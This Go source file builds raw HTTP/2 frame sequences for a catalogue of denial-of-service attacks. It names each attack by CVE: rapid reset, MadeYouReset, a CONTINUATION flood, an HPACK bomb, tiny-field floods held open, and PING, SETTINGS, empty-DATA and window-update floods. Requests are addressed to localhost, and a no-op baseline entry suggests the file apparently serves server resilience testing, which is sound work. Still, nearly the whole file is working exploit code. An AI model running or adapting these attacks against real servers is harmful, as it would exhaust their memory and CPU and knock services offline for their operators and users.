package main

import (
	"bytes"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is a way to have a server of HTTP/2 work, or hold memory, and to do little
// for it.
type attack struct {
	name string
	// begin is sent once on each connection, again as long as it lasts; nil:
	// nothing, the connection is only held.
	begin, again func(*attacker)
	unread       bool // what the server answers is not read
}

// attacker makes the frames of one connection.
type attacker struct {
	*http2.Framer
	out   bytes.Buffer
	block bytes.Buffer
	enc   *hpack.Encoder
	id    uint32 // of the next stream
}

func newAttacker() *attacker {
	a := &attacker{id: 1}
	a.Framer = http2.NewFramer(&a.out, nil)
	a.AllowIllegalWrites = true
	a.enc = hpack.NewEncoder(&a.block)
	a.out.WriteString(http2.ClientPreface)
	return a
}

// head encodes a request's head, and what is appended to it.
func (a *attacker) head(method, path string, more ...byte) []byte {
	a.block.Reset()
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: "localhost"}} {
		_ = a.enc.WriteField(f)
	}
	return append(a.block.Bytes(), more...)
}

// ask opens a stream with a block, in CONTINUATION frames if it is long.
func (a *attacker) ask(block []byte, end bool) {
	first := block[:min(len(block), 16384)]
	rest := block[len(first):]
	_ = a.WriteHeaders(http2.HeadersFrameParam{StreamID: a.id, BlockFragment: first, EndHeaders: len(rest) == 0, EndStream: end})
	for len(rest) > 0 {
		n := min(len(rest), 16384)
		_ = a.WriteContinuation(a.id, n == len(rest), rest[:n])
		rest = rest[n:]
	}
	a.id += 2
}

// together is how many frames are sent at a time.
const together = 500

// repeated sends a frame again and again.
func repeated(frame func(*attacker)) func(*attacker) {
	return func(a *attacker) {
		for range together {
			frame(a)
		}
	}
}

// opened is how many streams those open that hold them: what nginx allows on a
// connection.
const opened = 128

// attacks are those of the past years (CVE), and some of their relatives.
func attacks() []attack {
	settings := func(list ...http2.Setting) func(*attacker) {
		return func(a *attacker) { _ = a.WriteSettings(list...) }
	}
	closed := http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}
	return []attack{
		{"nothing", settings(), nil, false},
		{"rapid reset (CVE-2023-44487)", settings(), repeated(func(a *attacker) {
			a.ask(a.head("GET", "/"), true)
			_ = a.WriteRSTStream(a.id-2, http2.ErrCodeCancel)
		}), false},
		{"MadeYouReset (CVE-2025-8671)", settings(), repeated(func(a *attacker) {
			a.ask(a.head("GET", "/"), true)
			_ = a.WriteRawFrame(http2.FrameWindowUpdate, 0, a.id-2, make([]byte, 4))
		}), false},
		{"CONTINUATION without end (CVE-2024-27316)", func(a *attacker) {
			_ = a.WriteSettings()
			_ = a.WriteRawFrame(http2.FrameHeaders, 0, 1, a.head("GET", "/"))
		}, func(a *attacker) {
			// A field of no indexing with a name of one byte and no value.
			_ = a.WriteContinuation(1, false, bytes.Repeat([]byte{0x10, 1, 'a', 0}, 4096))
		}, false},
		{"HPACK bomb, held open (CVE-2016-6581)", func(a *attacker) {
			_ = a.WriteSettings(closed)
			entry := append([]byte{0x40, 1, 'x', 0x7f, 0xb9, 0x16}, bytes.Repeat([]byte("x"), 3000)...)
			a.ask(a.head("GET", "/10k", entry...), true)
			for range opened - 1 {
				a.ask(a.head("GET", "/10k", bytes.Repeat([]byte{0xbe}, 9)...), true)
			}
		}, nil, false},
		{"very many tiny fields, held open (CVE-2026-49975)", func(a *attacker) {
			_ = a.WriteSettings(closed)
			for i := range opened {
				fields := bytes.Repeat([]byte{0xbe}, 4000)
				if i == 0 {
					fields = append([]byte{0x40, 1, 'x', 0}, fields...)
				}
				a.ask(a.head("GET", "/10k", fields...), true)
			}
		}, nil, false},
		{"PING (CVE-2019-9512)", settings(), repeated(func(a *attacker) { _ = a.WritePing(false, [8]byte{}) }), false},
		{"PING, answers not read", settings(), repeated(func(a *attacker) { _ = a.WritePing(false, [8]byte{}) }), true},
		{"SETTINGS (CVE-2019-9515)", settings(), repeated(func(a *attacker) { _ = a.WriteSettings() }), false},
		{"empty DATA (CVE-2019-9518)", func(a *attacker) {
			_ = a.WriteSettings()
			a.ask(a.head("POST", "/up"), false)
		}, repeated(func(a *attacker) { _ = a.WriteData(1, false, nil) }), false},
		{"windows opened by a byte", settings(), repeated(func(a *attacker) { _ = a.WriteWindowUpdate(0, 1) }), false},
	}
}
